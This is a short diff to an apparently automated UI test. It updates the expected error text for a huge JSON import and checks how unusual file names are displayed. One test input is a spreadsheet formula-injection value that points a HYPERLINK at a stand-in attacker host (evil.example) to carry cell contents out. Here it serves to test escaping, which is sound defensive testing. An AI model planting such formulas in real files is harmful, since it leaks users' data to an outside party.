@@ -42,7 +42,9 @@ test('a link with a key of a megabyte, and files with names and numbers that no 
 
   await lab.openPanel();
   await lab.import('huge.json', exported('huge', [1, 1.7e308, -1.7e308]));
-  await expect(lab.panel).toContainText('huge.json: Experiment 1 of 1 is broken');
+  await expect(lab.panel).toContainText(
+    'huge.json: Taken for JSON of experiments, or of a policy. Experiment 1 of 1 is broken',
+  );
   for (const [name, shown] of [
     ['ctl\u0001\b\ufffe', 'ctl␁␈\\u{fffe}'],
     ['=HYPERLINK("http://evil.example/?"&A1)\nx', '=HYPERLINK("http://evil.example/?"&A1)␊x'],
